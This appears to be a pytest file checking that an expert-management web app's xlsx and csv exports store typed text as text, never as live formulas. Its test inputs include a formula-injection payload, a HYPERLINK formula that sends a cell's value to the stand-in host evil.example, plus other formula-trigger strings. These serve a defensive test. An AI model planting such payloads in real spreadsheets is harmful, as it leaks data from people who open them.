"""Item 12 (issue 11): text typed by experts or staff is exported as text, never as a live
formula, in every xlsx and csv the app writes."""
import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from app.services import export
from tests.conftest import login_staff
from tests.test_certificate import _issue, passed  # noqa: F401 — the fixture is used below

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
TEXTS = [EVIL, "=1+1", "+1+1", "-5", "-1+2", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "+8613800138000",
         "13800138000", "新疆某建设集团有限公司", "a=1"]


def _cells(data: bytes, sheet: str | None = None):
    wb = load_workbook(io.BytesIO(data))
    ws = wb[sheet] if sheet else wb.active
    return [cell for row in ws.iter_rows() for cell in row]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))


def test_item12_xlsx_helper_writes_every_text_as_text():
    data = export.xlsx([("表", ["内容"], [[t] for t in TEXTS])])
    cells = _cells(data)[1:]
    assert [c.data_type for c in cells] == ["s"] * len(TEXTS)
    # what was typed is what is shown; a CR is kept as a line break (XML has no bare CR)
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in TEXTS]
    assert "<f>" not in _sheet_xml(data)


def test_item12_xlsx_helper_keeps_numbers_and_dates_typed():
    data = export.xlsx([("表", ["数", "日期", "空"], [[3, dt.date(2025, 6, 3), None]])])
    number, day, empty = _cells(data)[3:]
    assert (number.data_type, number.value) == ("n", 3)
    assert day.is_date and day.value.date() == dt.date(2025, 6, 3)
    assert empty.value is None


def test_item12_csv_helper_defuses_formulas_and_leaves_numbers_readable():
    out = io.StringIO()
    export.csv_writer(out).writerows([[t] for t in TEXTS] + [[3, None]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    got = {t: row[0] for t, row in zip(TEXTS, rows)}
    for text in (EVIL, "=1+1", "+1+1", "-1+2", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"):
        assert got[text] == "'" + text  # a spreadsheet shows it as the text typed
    for text in ("-5", "+8613800138000", "13800138000", "新疆某建设集团有限公司", "a=1"):
        assert got[text] == text
    assert rows[-1] == ["3", ""]


def test_item12_expert_list_export_writes_employer_as_text(app, make_expert):
    make_expert("公式注入", employer=EVIL)
    client = app.test_client()
    login_staff(client)
    resp = client.get("/expertadminview/export/?_flt_0_name=公式注入")
    assert resp.status_code == 200
    sheet = load_workbook(io.BytesIO(resp.data)).active
    header = [c.value for c in sheet[1]]
    employer = sheet.cell(row=2, column=header.index("工作单位") + 1)
    assert employer.data_type != "f" and employer.data_type == "s"
    assert employer.value == EVIL
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert "<f>" not in _sheet_xml(resp.data)


def test_item12_import_template_goes_through_the_helper(app):
    client = app.test_client()
    login_staff(client, "testadmin")
    resp = client.get("/experts/import/template")
    assert resp.status_code == 200
    cells = _cells(resp.data) + _cells(resp.data, "填写说明")
    assert cells and all(c.data_type != "f" for c in cells)
    assert _cells(resp.data)[0].font.b  # the header is still bold


def test_item12_certificate_zip_listing_defuses_formulas(app, passed):  # noqa: F811
    from app.extensions import db
    from app.models import TrainingRound
    from app.services.certificate import zip_round

    account = passed("清单注入")
    _issue(app, account)
    with app.app_context():
        rnd = db.session.get(TrainingRound, account.round_id)
        rnd.name = EVIL
        db.session.commit()
        archive = zipfile.ZipFile(io.BytesIO(b"".join(
            zip_round(db.session, rnd, app.config["UPLOAD_FOLDER"]))))
        db.session.remove()
    rows = list(csv.reader(io.StringIO(archive.read("清单.csv").decode("utf-8-sig"))))
    assert rows[0][4] == "培训批次" and rows[1][4] == "'" + EVIL
    assert rows[1][1] == "清单注入"


def test_item12_every_spreadsheet_writer_goes_through_the_export_helper():
    """One helper for all exports: nothing else in app/ builds a workbook or a csv writer."""
    app_dir = Path(__file__).resolve().parent.parent / "app"
    writers = re.compile(r"\bWorkbook\(|WriteOnlyCell|csv\.writer|csv\.DictWriter|xlsxwriter")
    offenders = [str(p.relative_to(app_dir)) for p in app_dir.rglob("*.py")
                 if p.name != "export.py" and writers.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
